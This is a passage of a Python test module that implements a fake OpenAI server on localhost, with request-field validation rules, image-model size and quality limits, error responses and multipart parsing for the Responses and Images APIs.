"""A fake OpenAI HTTP server for tests: the Responses API with the image_generation tool, the Images API
(``images.generate`` and ``images.edit``), Files and the model list.

Tests start it on 127.0.0.1 (random port) and point the real ``openai`` SDK at ``base_url``.
It checks every request the way the real API does, by its own rules written from the installed SDK's request
types (see "the API's rules" below; it imports nothing from the project, so a wrong product rule fails a test):
a field the SDK's types do not have answers 400 ``unknown_parameter``, a value they do not allow (a wrong
Literal, an integer out of range, a wrong type) 400 with ``param`` naming the field (``tools[0].background``),
a size or option the model does not take 400, and a retired model (``RETIRED_IMAGE_MODELS``) 404
``model_not_found``. It renders real images with Pillow (also SVG documents and animated GIFs, for
``output_format`` "svg" and "gif"), streams the same SSE event sequence as the real API,
stores responses for ``previous_response_id`` (and their input items), and can inject errors and odd outcomes on
demand (``fail_next``, ``queue_outcome``, ``expire_responses``, ``latency``, ``hostile_svg``). Every request
received stays in ``requests``; ``response_requests`` and ``image_requests`` hand back their fields.
Background responses (``"background": true``) run on their own clock in a daemon thread per response,
independent of any HTTP connection: queued, then in progress, then done after ``render_seconds``. They can be
streamed as they happen, retrieved (``GET /v1/responses/{id}``, also as a stream with ``starting_after``) and
cancelled (``POST /v1/responses/{id}/cancel``); ``drop_stream_after``, ``refuse_background`` and
``answer_streams_with_json`` break the connection, the deployment or the framing on purpose, and
``background_responses``, ``generations`` and ``wait_background`` tell a test what ran. A ``previous_response_id``
naming a background response that is still queued or in progress is refused (400): nothing can continue from it yet.
It can also watch for secrets (``watch``, ``leaks``, ``assert_no_leaks``): every request it receives from then
on, answered or refused, is searched for the watched values in its request line, headers and body, and inside
every payload the body carries (JSON strings, base64 data URLs and other base64 strings, multipart parts, gzip or
deflate bodies), so a test can show that a secret never left the machine.
Final images are flat-colour drawings (about 22 KB as PNG at 1024x1024) unless ``photo_like`` is set: then every
final PNG, WEBP or JPEG image is a photo-like picture (grain over smooth random shapes, about 1.6 MB as PNG at
1024x1024, in proportion at other sizes), as heavy to decode, preview and stream as a real one (``render_photo``).

Run ``python tests/fake_openai.py [--port N] [--latency S] [--render-seconds S] [--photo-like]`` to serve it in the foreground.
"""

from __future__ import annotations

import argparse
import base64
import binascii
import contextlib
import dataclasses
import email.parser
import email.policy
import gzip
import hashlib
import io
import itertools
import json
import math
import quopri
import random
import re
import secrets
import socket
import socketserver
import sys
import threading
import time
import traceback
import zlib
from collections import deque
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import partial
from http import HTTPStatus
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import parse_qsl, unquote, unquote_to_bytes, urlsplit
from xml.sax.saxutils import escape

from PIL import Image, ImageDraw, ImageFilter, ImageOps

__all__ = [
    "COMPLETION_WINDOWS",
    "DEFAULT_IMAGE_MODEL",
    "HOSTILE_SVG",
    "IMAGE_MODELS",
    "OUTCOME_KINDS",
    "RETIRED_IMAGE_MODELS",
    "FakeOpenAI",
    "FormFile",
    "Leak",
    "RecordedRequest",
    "render_gif",
    "render_image",
    "render_photo",
    "render_svg",
]

OUTCOME_KINDS = frozenset(
    {
        "no_image",
        "moderated",
        "bad_base64",
        "damaged_image",
        "failed_response",
        "incomplete",
        "stream_cut",
        "hang",
        "forgotten",
    }
)
_FINISHED = frozenset({"completed", "failed", "cancelled", "incomplete"})

_PARTIAL_MAX_EDGE = 256
_DATA_URL_RE = re.compile(r"^data:([^,]*?)(;base64)?,(.*)$", re.DOTALL)
_BEARER_RE = re.compile(r"^Bearer\s+\S+")
_RESPONSE_PATH_RE = re.compile(r"^/v1/responses/([^/]+)$")
_CANCEL_PATH_RE = re.compile(r"^/v1/responses/([^/]+)/cancel$")
_FILE_PATH_RE = re.compile(r"^/v1/files/([^/]+)(/content)?$")
_INPUT_ITEMS_PATH_RE = re.compile(r"^/v1/responses/([^/]+)/input_items$")

_DEFAULT_MESSAGES = {
    "insufficient_quota": "You exceeded your current quota, please check your plan and billing details.",
    "rate_limit_exceeded": "Rate limit reached for requests. Please try again shortly.",
    "server_error": "The server had an error while processing your request. Sorry about that!",
    "moderation_blocked": "Your request was rejected by the safety system.",
    "invalid_api_key": "Incorrect API key provided.",
}


@dataclass
class RecordedRequest:
    """One HTTP request as the fake received it."""

    method: str
    path: str  # URL path without the query string
    headers: dict[str, str]  # lower-case keys
    body: bytes
    json: dict[str, Any] | None  # parsed body when it is a JSON object
    query: str = ""


class ApiError(Exception):
    """An error answer: ``{"error": {"message", "type", "param", "code"}}`` with an HTTP status."""

    def __init__(
        self,
        status: int,
        message: str,
        *,
        code: str | None = None,
        type: str | None = None,
        param: str | None = None,
        headers: dict[str, str] | None = None,
    ) -> None:
        super().__init__(message)
        self.status = status
        self.message = message
        self.code = code
        self.type = type or _default_error_type(status, code)
        self.param = param
        self.headers = dict(headers or {})

    def body(self) -> dict[str, Any]:
        return {"error": {"message": self.message, "type": self.type, "param": self.param, "code": self.code}}


def _default_error_type(status: int, code: str | None) -> str:
    if code == "insufficient_quota":
        return "insufficient_quota"
    if code == "moderation_blocked":
        return "image_generation_user_error"
    if status == 429:
        return "requests"
    if status >= 500:
        return "server_error"
    return "invalid_request_error"


def _invalid(message: str, param: str | None, code: str | None = "invalid_value") -> ApiError:
    return ApiError(400, message, code=code, param=param)


# --------------------------------------------------------------------------- the API's rules
#
# Written from the installed openai SDK's request types (paths below are under site-packages/openai/), never
# taken from the project: the fake stands for the API the product is checked against, so a wrong product rule
# fails a test instead of agreeing with itself. When the SDK changes, test_fake_openai.py compares these field
# lists with the SDK's TypedDicts.

# types/responses/tool_param.py, ImageGeneration.model: "Default: `gpt-image-2.6-sunburst`."
DEFAULT_IMAGE_MODEL = "gpt-image-2.6-sunburst"
# types/responses/tool_param.py (ImageGeneration.size) and types/image_generate_params.py (size): "The standard
# sizes `1024x1024`, `1536x1024`, and `1024x1536` are supported by the GPT image models".
STANDARD_SIZES = ("1024x1024", "1536x1024", "1024x1536")
# The same docstrings, for the flexible-size models: "Width and height must both be divisible by 16 and the
# requested aspect ratio must be between 1:3 and 3:1 ... the maximum supported resolution is `3840x2160`. The
# requested size must also satisfy the model's current pixel and edge limits." The SDK gives no figures for those
# limits; OpenAI's model page (https://developers.openai.com/api/docs/models/gpt-image-2) gives them: the longest
# edge at most 3840 px, and between 655,360 and 8,294,400 (3840x2160) pixels in all.
SIZE_STEP = 16
MAX_ASPECT = 3
MAX_EDGE = 3840
# "the maximum supported resolution is `3840x2160`" (ImageGeneration.size): read as a box, so the short side is at most 2160.
MAX_SHORT_EDGE = 2160
MIN_PIXELS, MAX_PIXELS = 655_360, 3840 * 2160
_BASE_QUALITIES = ("low", "medium", "high", "auto")
# ImageGeneration.quality: "`gpt-image-2.5-sunburst` and `gpt-image-2.5-flare`, including their `2026-09-08`
# snapshots, also support `xhigh` and `max`."
_EXTRA_QUALITIES = ("xhigh", "max")


@dataclass(frozen=True)
class ModelRules:
    """What one current image model accepts beyond the field types."""

    flexible_sizes: bool  # any WIDTHxHEIGHT within the limits above, not only STANDARD_SIZES
    qualities: tuple[str, ...]
    # images.edit `markup`: "Supports GPT Image 2.5." (types/image_edit_params.py); GPT Image 2.6 came after it with
    # "image markup editing" in its launch notes (https://docs.apiyi.com/en/live/2026-11/gpt-image-2-6-launch.md).
    markup: bool = False


_GPT_IMAGE_2_6 = ModelRules(flexible_sizes=False, qualities=_BASE_QUALITIES, markup=True)
_GPT_IMAGE_2 = ModelRules(flexible_sizes=True, qualities=_BASE_QUALITIES)
_GPT_IMAGE_2_5 = ModelRules(flexible_sizes=True, qualities=_BASE_QUALITIES + _EXTRA_QUALITIES, markup=True)
# The Literal model lists of types/image_model.py and ImageGeneration.model, less the retired ones below; the
# flexible-size models are the ones the size docstrings name (the 2.6 models are not among them).
IMAGE_MODELS: dict[str, ModelRules] = {
    "gpt-image-2.6-sunburst": _GPT_IMAGE_2_6,
    "gpt-image-2.6-flare": _GPT_IMAGE_2_6,
    "gpt-image-2.5-sunburst": _GPT_IMAGE_2_5,
    "gpt-image-2.5-sunburst-2026-09-08": _GPT_IMAGE_2_5,
    "gpt-image-2.5-flare": _GPT_IMAGE_2_5,
    "gpt-image-2.5-flare-2026-09-08": _GPT_IMAGE_2_5,
    "gpt-image-2": _GPT_IMAGE_2,
    "gpt-image-2-2026-04-21": _GPT_IMAGE_2,
}
_SHUT_DOWN_DEC_2026 = "It was shut down on December 1, 2026. Use gpt-image-2.6-sunburst or gpt-image-2.6-flare instead."
# Answered 404 model_not_found. gpt-image-1 and DALL·E: the "Deprecated values" of types/image_model.py. The other
# three are still listed by the SDK (3.63) but were shut down on 2026-12-01, as OpenAI's deprecations page
# (https://developers.openai.com/api/docs/deprecations) announced.
RETIRED_IMAGE_MODELS: dict[str, str] = {
    "gpt-image-1": "GPT Image 1 was shut down on October 23, 2026. Use gpt-image-2.5-sunburst or gpt-image-2.5-flare instead.",
    "gpt-image-1.5": _SHUT_DOWN_DEC_2026,
    "gpt-image-1-mini": _SHUT_DOWN_DEC_2026,
    "chatgpt-image-latest": _SHUT_DOWN_DEC_2026,
    "dall-e-2": "This model was retired on May 12, 2026. Use a GPT image model instead.",
    "dall-e-3": "This model was retired on May 12, 2026. Use a GPT image model instead.",
}

BACKGROUNDS = ("transparent", "opaque", "auto")
COMPLEXITIES = ("low", "medium", "high")
MODERATIONS = ("auto", "low")
OUTPUT_FORMATS = ("png", "webp", "jpeg", "gif", "svg")
QUALITIES = _BASE_QUALITIES + _EXTRA_QUALITIES
EFFORTS = ("none", "minimal", "low", "medium", "high", "xhigh", "max")  # ImageGenerationSvgReasoning.effort
# The Images API without `svg.model`: "the default SVG author is used" (unnamed in the SDK; the fake's name).
DEFAULT_SVG_AUTHOR = "default-svg-author"
# GIF: frame_count "Accepts integers from 2 through 16. Defaults to 9"; frame_duration_ms "Defaults to 200 ...
# rounds to the nearest 10 ms and caps the encoded delay at 655,350 ms per frame" (types/image_generate_params.py).
GIF_FRAMES = (2, 16)
DEFAULT_GIF_FRAMES, DEFAULT_GIF_FRAME_MS, MAX_GIF_FRAME_MS = 9, 200, 655_350
# types/responses/response_create_params.py, BackgroundOptions.completion_window.
COMPLETION_WINDOWS = ("soonest", "2h", "8h")
MAX_PROMPT_CHARS = 32_000  # images.generate/edit `prompt`: "The maximum length is 32000 characters."
MAX_EDIT_IMAGES = 16  # images.edit `image`: "You can provide up to 16 images", each "less than 50MB"
MAX_EDIT_IMAGE_BYTES, MAX_MASK_BYTES = 50 * 1024 * 1024, 4 * 1024 * 1024  # mask: "less than 4MB"
# types/responses/response_includable.py, ResponseIncludable.
INCLUDABLE = (
    "file_search_call.results",
    "web_search_call.results",
    "web_search_call.action.sources",
    "message.input_image.image_url",
    "computer_call_output.output.image_url",
    "code_interpreter_call.outputs",
    "reasoning.encrypted_content",
    "message.output_text.logprobs",
)
# The `type` of each member of ToolParam (types/responses/tool_param.py and the *_tool_param.py files it names).
TOOL_TYPES = (
    "function",
    "file_search",
    "computer",
    "computer_use_preview",
    "web_search",
    "web_search_2025_08_26",
    "mcp",
    "code_interpreter",
    "programmatic_tool_calling",
    "image_generation",
    "local_shell",
    "shell",
    "custom",
    "namespace",
    "tool_search",
    "web_search_preview",
    "web_search_preview_2025_03_11",
    "apply_patch",
)


@dataclass(frozen=True)
class Rule:
    """What one request field may hold, as its SDK TypedDict declares it.

    ``kind`` is "str", "int", "number", "bool", "object", "array", "file" (a multipart file part) or "any"
    (a union the fake does not check); ``fields`` are an object's own fields, checked just as strictly.
    """

    kind: str
    choices: tuple[str, ...] = ()
    low: float | None = None
    high: float | None = None
    max_length: int | None = None
    nullable: bool = False  # Optional[...] in the SDK: null is allowed and means "not sent"
    fields: dict[str, Rule] | None = None
    items: Rule | None = None


def _text(*choices: str, nullable: bool = False, max_length: int | None = None) -> Rule:
    return Rule("str", choices=choices, nullable=nullable, max_length=max_length)


def _integer(low: int | None = None, high: int | None = None, *, nullable: bool = False) -> Rule:
    return Rule("int", low=low, high=high, nullable=nullable)


def _number(low: float, high: float, *, nullable: bool = False) -> Rule:
    return Rule("number", low=low, high=high, nullable=nullable)


def _flag(*, nullable: bool = False) -> Rule:
    return Rule("bool", nullable=nullable)


def _object(fields: dict[str, Rule] | None = None, *, nullable: bool = False) -> Rule:
    return Rule("object", fields=fields, nullable=nullable)


_ANY = Rule("any")
_FILE = Rule("file")

# types/responses/tool_param.py, ImageGenerationSvg and ImageGenerationSvgReasoning (the Images API's Svg and
# SvgReasoning in types/image_generate_params.py and types/image_edit_params.py have the same fields).
SVG_FIELDS = {"model": _text(), "reasoning": _object({"effort": _text(*EFFORTS, nullable=True)}, nullable=True)}
# types/responses/tool_param.py, ImageGeneration: partial_images "from 0 (default value) to 3". The ranges of
# frame_count (2-16) and output_compression ("0-100%") are the Images API's: the tool's docstrings give only defaults.
IMAGE_TOOL_FIELDS: dict[str, Rule] = {
    "type": _text("image_generation"),
    "action": _text("generate", "edit", "auto"),
    "background": _text(*BACKGROUNDS),
    "complexity": _text(*COMPLEXITIES),
    "frame_count": _integer(*GIF_FRAMES),
    "frame_duration_ms": _integer(0),
    "input_fidelity": _text("high", "low", nullable=True),
    "input_image_mask": _object({"file_id": _text(), "image_url": _text()}),
    "model": _text(),
    "moderation": _text(*MODERATIONS),
    "output_compression": _integer(0, 100),
    "output_format": _text(*OUTPUT_FORMATS),
    "partial_images": _integer(0, 3),
    "quality": _text(*QUALITIES),
    "size": _text(),
    "svg": _object(SVG_FIELDS),
}
# types/responses/response_create_params.py, ResponseCreateParamsBase plus `stream`. The fields the fake does
# not act on are only checked for their outer type ("any" for unions of a string and an object).
RESPONSE_CREATE_FIELDS: dict[str, Rule] = {
    "access_programs": _object({"cyber": _text("standard", "daybreak_blue", "daybreak_red")}),
    "background": _flag(nullable=True),
    "background_options": _object({"completion_window": _text(*COMPLETION_WINDOWS), "continuation_id": _text()}),
    "context_management": Rule("array", nullable=True),
    "conversation": _ANY,
    "image": _object({"context_compression": _text("auto", "enabled", "disabled")}),
    "include": Rule("array", nullable=True, items=_text(*INCLUDABLE)),
    "input": _ANY,  # a string or a list of items: _read_input checks it
    "instructions": _text(nullable=True),
    "max_output_tokens": _integer(nullable=True),
    "max_tool_calls": _integer(nullable=True),
    "metadata": _object(nullable=True),  # "16 key-value pairs", keys up to 64 and values up to 512 characters
    "model": _text(),
    "moderation": _object(nullable=True),
    "parallel_tool_calls": _flag(nullable=True),
    "previous_response_id": _text(nullable=True),
    "prompt": _object(nullable=True),
    "prompt_cache_key": _text(nullable=True),
    "prompt_cache_options": _object(),
    "prompt_cache_retention": _text("in_memory", "24h", nullable=True),
    "reasoning": _object(nullable=True),
    # "a maximum length of 128 characters"
    "safety_identifier": _text(nullable=True, max_length=128),
    "service_tier": _text("auto", "default", "flex", "scale", "priority", "fast", "ultrafast", nullable=True),
    "store": _flag(nullable=True),
    "stream": _flag(nullable=True),
    "stream_options": _object({"include_obfuscation": _flag()}, nullable=True),
    "temperature": _number(0, 2, nullable=True),  # "between 0 and 2"
    "text": _object(),
    "tool_choice": _ANY,
    "tools": Rule("array"),  # each tool: _read_tools
    "top_logprobs": _integer(0, 20, nullable=True),  # "An integer between 0 and 20"
    "top_p": _number(0, 1, nullable=True),
    "truncation": _text("auto", "disabled", nullable=True),
    "user": _text(),
}
# The Images API: types/image_generate_params.py (ImageGenerateParamsBase plus `stream`) and
# types/image_edit_params.py (ImageEditParamsBase plus `stream`), which sends them as multipart form fields.
_IMAGES_COMMON: dict[str, Rule] = {
    "prompt": _text(max_length=MAX_PROMPT_CHARS),
    "background": _text(*BACKGROUNDS, nullable=True),
    "complexity": _text(*COMPLEXITIES, nullable=True),
    "frame_count": _integer(*GIF_FRAMES, nullable=True),
    "frame_duration_ms": _integer(0, nullable=True),
    "model": _text(nullable=True),
    "n": _integer(1, 10, nullable=True),  # "Must be between 1 and 10."
    "output_compression": _integer(0, 100, nullable=True),
    "output_format": _text(*OUTPUT_FORMATS, nullable=True),
    "partial_images": _integer(0, 3, nullable=True),
    "response_format": _text("url", "b64_json", nullable=True),
    "safety_identifier": _text(nullable=True),
    "size": _text(nullable=True),
    "stream": _flag(nullable=True),
    "svg": _object(SVG_FIELDS, nullable=True),
    "user": _text(),
}
IMAGE_GENERATE_FIELDS: dict[str, Rule] = {
    **_IMAGES_COMMON,
    "moderation": _text(*MODERATIONS, nullable=True),  # generate only: ImageEditParamsBase has no moderation
    "quality": _text(*QUALITIES, "standard", "hd", nullable=True),
    "style": _text("vivid", "natural", nullable=True),
}
IMAGE_EDIT_FIELDS: dict[str, Rule] = {
    **_IMAGES_COMMON,
    "image": Rule("array", items=_FILE),  # one file part `image`, or several `image[]`
    "input_fidelity": _text("high", "low", nullable=True),
    "markup": _FILE,
    "mask": _FILE,
    "quality": _text(*QUALITIES, "standard", nullable=True),
}
# types/responses/response_retrieve_params.py and input_item_list_params.py: query parameters.
RETRIEVE_FIELDS: dict[str, Rule] = {
    "include": Rule("array", items=_text(*INCLUDABLE)),
    "include_obfuscation": _flag(),
    "starting_after": _integer(),
    "stream": _flag(),
}
INPUT_ITEMS_FIELDS: dict[str, Rule] = {
    "after": _text(),
    "include": Rule("array", items=_text(*INCLUDABLE)),
    "limit": _integer(1, 100),  # "Limit can range between 1 and 100, and the default is 20."
    "order": _text("asc", "desc"),
}
# Items of `input` (types/responses/response_input_param.py): a message's fields, and its content parts'
# (response_input_text_param.py, response_input_image_param.py, response_input_file_param.py, and the
# output_text and refusal parts of an assistant message, response_output_message_param.py).
_BREAKPOINT = _object({"mode": _text("explicit"), "ttl": _text("30m", "12h")})
MESSAGE_FIELDS: dict[str, Rule] = {
    "type": _text("message"),
    "role": _text("user", "assistant", "system", "developer"),
    "content": _ANY,
    "status": _text("in_progress", "completed", "incomplete"),
    "phase": _text("commentary", "final_answer", nullable=True),
    "id": _text(),
}
CONTENT_PART_FIELDS: dict[str, dict[str, Rule]] = {
    "input_text": {"type": _text(), "text": _text(), "prompt_cache_breakpoint": _BREAKPOINT},
    "input_image": {
        "type": _text(),
        "detail": _text("low", "high", "auto", "original"),  # types/responses/image_detail.py
        "file_id": _text(nullable=True),
        "image_url": _text(nullable=True),
        "prompt_cache_breakpoint": _BREAKPOINT,
    },
    "input_file": {
        "type": _text(),
        "detail": _text("auto", "low", "high"),
        "file_data": _text(),
        "file_id": _text(nullable=True),
        "file_url": _text(),
        "filename": _text(),
        "prompt_cache_breakpoint": _BREAKPOINT,
    },
    "output_text": {"type": _text(), "text": _text(), "annotations": Rule("array"), "logprobs": Rule("array")},
    "refusal": {"type": _text(), "refusal": _text()},
}

_KIND_NAMES = {
    "str": "a string",
    "int": "an integer",
    "number": "a number",
    "bool": "a boolean",
    "object": "an object",
    "array": "an array",
    "file": "a file",
}


def _type_name(value: Any) -> str:
    if value is None:
        return "null"
    if isinstance(value, bool):
        return "a boolean"
    if isinstance(value, int):
        return "an integer"
    if isinstance(value, float):
        return "a number"
    if isinstance(value, str):
        return "a string"
    if isinstance(value, list):
        return "an array"
    if isinstance(value, dict):
        return "an object"
    return "a file"


def _listed(values: tuple[str, ...]) -> str:
    quoted = [f"'{value}'" for value in values]
    return quoted[0] if len(quoted) == 1 else ", ".join(quoted[:-1]) + f", and {quoted[-1]}"


def _join(where: str, key: str | int) -> str:
    if isinstance(key, int):
        return f"{where}[{key}]"
    return f"{where}.{key}" if where else key


def check_fields(body: dict[str, Any], rules: dict[str, Rule], where: str = "") -> None:
    """OpenAI's 400 for the first field of ``body`` that ``rules`` do not name, or whose value they do not allow.

    ``where`` is the JSON path of ``body`` in the request (``"tools[0]"``), so ``param`` names the field exactly.
    """
    for key, value in body.items():
        param = _join(where, key)
        rule = rules.get(key)
        if rule is None:
            raise _invalid(f"Unknown parameter: '{param}'.", param, "unknown_parameter")
        check_value(value, rule, param)


def check_value(value: Any, rule: Rule, param: str) -> None:
    """OpenAI's 400 when ``value`` is not of ``rule``'s type, not one of its choices, or outside its range."""
    if rule.kind == "any" or (value is None and rule.nullable):
        return
    matches = {
        "str": isinstance(value, str),
        "int": isinstance(value, int) and not isinstance(value, bool),
        "number": isinstance(value, (int, float)) and not isinstance(value, bool),
        "bool": isinstance(value, bool),
        "object": isinstance(value, dict),
        "array": isinstance(value, list),
        "file": isinstance(value, FormFile),
    }[rule.kind]
    if not matches:
        raise _invalid(
            f"Invalid type for '{param}': expected {_KIND_NAMES[rule.kind]}, but got {_type_name(value)} instead.",
            param,
            "invalid_type",
        )
    if rule.choices and value not in rule.choices:
        raise _invalid(f"Invalid value: '{value}'. Supported values are: {_listed(rule.choices)}.", param)
    if rule.max_length is not None and len(value) > rule.max_length:
        raise _invalid(
            f"Invalid '{param}': string too long. Expected a string with maximum length {rule.max_length}, "
            f"but got a string with length {len(value)} instead.",
            param,
            "string_above_max_length",
        )
    if rule.kind in ("int", "number"):
        unit = "integer" if rule.kind == "int" else "decimal"
        if rule.low is not None and value < rule.low:
            raise _invalid(
                f"Invalid '{param}': {unit} below minimum value. Expected a value >= {rule.low:g}, but got {value} instead.",
                param,
                f"{unit}_below_min_value",
            )
        if rule.high is not None and value > rule.high:
            raise _invalid(
                f"Invalid '{param}': {unit} above maximum value. Expected a value <= {rule.high:g}, but got {value} instead.",
                param,
                f"{unit}_above_max_value",
            )
    if rule.fields is not None:
        check_fields(value, rule.fields, param)
    if rule.items is not None:
        for index, item in enumerate(value):
            check_value(item, rule.items, _join(param, index))


def check_metadata(metadata: Any, param: str = "metadata") -> None:
    """``metadata``: "16 key-value pairs ... Keys ... a maximum length of 64 characters. Values ... 512"."""
    if not isinstance(metadata, dict):
        return
    if len(metadata) > 16:
        raise _invalid(f"Invalid '{param}': too many properties. Expected at most 16, but got {len(metadata)}.", param)
    for key, value in metadata.items():
        check_value(key, _text(max_length=64), f"{param}.{key}")
        check_value(value, _text(max_length=512), f"{param}.{key}")


@dataclass(frozen=True)
class FormFile:
    """A file part of a multipart request, as ``image_requests`` hands it back."""

    filename: str | None
    content_type: str | None
    data: bytes


def _form_value(text: str, rule: Rule | None, param: str) -> Any:
    """A multipart text field in the type its rule expects (forms carry every value as text)."""
    if rule is None or rule.kind in ("str", "any"):
        return text
    if rule.kind == "int":
        try:
            return int(text)
        except ValueError:
            raise _invalid(f"Invalid type for '{param}': expected an integer, but got a string instead.", param, "invalid_type") from None
    if rule.kind == "number":
        try:
            return float(text)
        except ValueError:
            raise _invalid(f"Invalid type for '{param}': expected a number, but got a string instead.", param, "invalid_type") from None
    if rule.kind == "bool" and text.lower() in ("true", "false"):
        return text.lower() == "true"
    return text  # a string where an object, a file or a boolean belongs: check_value says so


def form_body(parts: list[tuple[str, FormFile | str]], rules: dict[str, Rule]) -> dict[str, Any]:
    """A multipart form as the JSON body it stands for: ``svg[reasoning][effort]`` nests, ``image[]`` collects."""
    body: dict[str, Any] = {}
    for name, value in parts:
        keys = re.findall(r"[^\[\]]+|\[\]", name) or [name]
        collect = keys[-1] == "[]"
        keys = [key for key in keys if key != "[]"] or [name]
        node, node_rules = body, rules
        for key in keys[:-1]:
            rule = node_rules.get(key)
            node = node.setdefault(key, {})
            if not isinstance(node, dict):
                raise _invalid(f"Invalid form field '{name}'.", ".".join(keys), "invalid_type")
            node_rules = (rule.fields if rule else None) or {}
        last = keys[-1]
        rule = node_rules.get(last)
        param = ".".join(keys)
        converted = value if isinstance(value, FormFile) else _form_value(value, rule, param)
        if collect or (rule is not None and rule.kind == "array"):
            node.setdefault(last, []).append(converted)
        else:
            node[last] = converted
    return body


def _query_body(query: str, rules: dict[str, Rule]) -> dict[str, Any]:
    """A query string as the parameters it stands for (``include[]=a&include[]=b`` a list), checked like a body."""
    body = form_body(list(parse_qsl(query, keep_blank_values=True)), rules)
    check_fields(body, rules)
    return body


def _form_parts(request: RecordedRequest) -> list[tuple[str, FormFile | str]]:
    """The parts of a multipart/form-data body in order: a file part as a FormFile, any other as its text."""
    content_type = request.headers.get("content-type", "")
    # The email package parses MIME multipart bodies; prepend the header it needs.
    raw = b"Content-Type: " + content_type.encode("latin-1") + b"\r\nMIME-Version: 1.0\r\n\r\n" + request.body
    message = email.parser.BytesParser(policy=email.policy.HTTP).parsebytes(raw)
    if not message.is_multipart():
        raise _invalid("Could not parse the multipart body.", None, None)
    parts: list[tuple[str, FormFile | str]] = []
    for part in message.iter_parts():
        name = part.get_param("name", header="content-disposition")
        payload = part.get_payload(decode=True)
        if not isinstance(name, str) or not isinstance(payload, bytes):
            continue
        filename = part.get_filename()
        if filename is None:
            parts.append((name, payload.decode("utf-8", "replace")))
        else:
            parts.append((name, FormFile(filename, part.get_content_type(), payload)))
    return parts


def _input_items(value: Any) -> list[dict[str, Any]]:
    """A request's ``input`` as the input items OpenAI lists for its response, each with an id, oldest first."""
    if value is None:
        return []
    if isinstance(value, str):
        value = [{"role": "user", "content": value}]
    items = []
    for sent in value:
        item = dict(sent, type=sent.get("type", "message"))
        if item["type"] == "message":
            if isinstance(item.get("content"), str):
                part = "output_text" if item.get("role") == "assistant" else "input_text"
                item["content"] = [{"type": part, "text": item["content"], **({"annotations": []} if part == "output_text" else {})}]
            item.setdefault("status", "completed")
        item.setdefault("id", _new_id("msg_" if item["type"] == "message" else "item_"))
        items.append(item)
    return items


@dataclass
class _Outcome:
    kind: str
    kw: dict[str, Any]


@dataclass
class _ImageSpec:
    """The image settings of a request (the image_generation tool's, or an Images API call's), checked, with defaults."""

    width: int
    height: int
    output_format: str
    transparent: bool
    background: str  # as reported back: "transparent" or "opaque"
    quality: str
    compression: int
    partial_images: int
    action: str
    model: str
    frame_count: int = DEFAULT_GIF_FRAMES
    frame_ms: int = DEFAULT_GIF_FRAME_MS
    svg_author: str | None = None  # the model that writes an SVG result
    svg_effort: str | None = None

    @property
    def size(self) -> str:
        return f"{self.width}x{self.height}"


def image_model_rules(model: str, param: str) -> ModelRules:
    """A current model's rules; 404 model_not_found for a retired one, 400 for a name the SDK does not list."""
    retired = re.sub(r"-\d{4}-\d{2}-\d{2}$", "", model)  # a dated snapshot went with its model
    if retired in RETIRED_IMAGE_MODELS:
        raise ApiError(
            404,
            f"The model `{model}` does not exist or you do not have access to it. {RETIRED_IMAGE_MODELS[retired]}",
            code="model_not_found",
            param=param,
        )
    rules = IMAGE_MODELS.get(model)
    if rules is None:
        raise _invalid(f"Invalid value: '{model}'. Supported values are: {_listed(tuple(IMAGE_MODELS))}.", param)
    return rules


def accepted_sizes(model: str, rules: ModelRules) -> str:
    """What sizes ``model`` accepts, in one sentence for an error message."""
    if not rules.flexible_sizes:
        return f"{model} accepts {', '.join(STANDARD_SIZES)} or auto"
    return (
        f"{model} accepts auto or WIDTHxHEIGHT with both sides divisible by {SIZE_STEP}, an aspect ratio between "
        f"1:{MAX_ASPECT} and {MAX_ASPECT}:1, no side over {MAX_EDGE} and {MIN_PIXELS:,} to {MAX_PIXELS:,} pixels in all"
    )


def size_problem(width: int, height: int) -> str | None:
    """The first limit of the flexible-size models that ``width`` x ``height`` breaks, or None."""
    if width <= 0 or height <= 0:
        return "both sides must be positive"
    if width % SIZE_STEP or height % SIZE_STEP:
        return f"both sides must be divisible by {SIZE_STEP}"
    if max(width, height) > MAX_ASPECT * min(width, height):
        return f"the aspect ratio must be between 1:{MAX_ASPECT} and {MAX_ASPECT}:1"
    if max(width, height) > MAX_EDGE:
        return f"no side may be over {MAX_EDGE} pixels"
    if width * height < MIN_PIXELS:
        return f"it has {width * height:,} pixels, fewer than the {MIN_PIXELS:,} needed"
    if width * height > MAX_PIXELS:
        return f"it has {width * height:,} pixels, more than the {MAX_PIXELS:,} allowed"
    if min(width, height) > MAX_SHORT_EDGE:
        return f"the largest size is {MAX_EDGE}x{MAX_SHORT_EDGE} (or {MAX_SHORT_EDGE}x{MAX_EDGE})"
    return None


def image_size(size: str, model: str, param: str) -> tuple[int, int]:
    """The (width, height) that ``size`` asks of ``model`` ("auto" renders 1024x1024), or OpenAI's 400."""
    rules = image_model_rules(model, param)
    if size == "auto":
        return 1024, 1024
    match = re.fullmatch(r"(\d{1,5})x(\d{1,5})", size)
    if match is None:
        raise _invalid(f"Invalid size '{size}'. {accepted_sizes(model, rules)}.", param)
    width, height = int(match.group(1)), int(match.group(2))
    if size in STANDARD_SIZES:
        return width, height
    if not rules.flexible_sizes:
        raise _invalid(f"Invalid size '{size}'. {accepted_sizes(model, rules)}.", param)
    problem = size_problem(width, height)
    if problem is not None:
        raise _invalid(f"Invalid size '{size}': {problem}. {accepted_sizes(model, rules)}.", param)
    return width, height


def image_spec(settings: dict[str, Any], *, where: str, model: str, mask_param: str | None, svg_author: str) -> _ImageSpec:
    """Check the settings the SDK types cannot: the ones that depend on the model or on each other.

    ``settings`` has passed ``check_fields``; ``where`` is its JSON path ("tools[0]", or "" for the Images API);
    ``mask_param`` names the mask sent with it, if any; ``svg_author`` writes an SVG when ``svg.model`` is not set.
    """

    def param(name: str) -> str:
        return _join(where, name)

    rules = image_model_rules(model, param("model"))
    size = settings.get("size")
    width, height = image_size("auto" if size is None else size, model, param("size"))
    output_format = settings.get("output_format") or "png"
    background = settings.get("background") or "auto"
    quality = settings.get("quality") or "auto"
    if quality not in rules.qualities:
        raise _invalid(f"Invalid value: '{quality}'. Supported values for {model} are: {_listed(rules.qualities)}.", param("quality"))
    # background: "When using `transparent`, set the output format to `png` or `webp`."
    if background == "transparent" and output_format not in ("png", "webp"):
        raise _invalid(
            f"Transparent backgrounds need output_format 'png' or 'webp', not '{output_format}'.",
            param("background"),
        )
    compression = settings.get("output_compression")
    # output_compression: "only supported ... with the `webp` or `jpeg` output formats" (types/image_generate_params.py);
    # GIF output does not support "custom `output_compression`", SVG output "cannot use ... output compression".
    if compression is not None and (output_format == "svg" or (output_format not in ("jpeg", "webp") and compression != 100)):
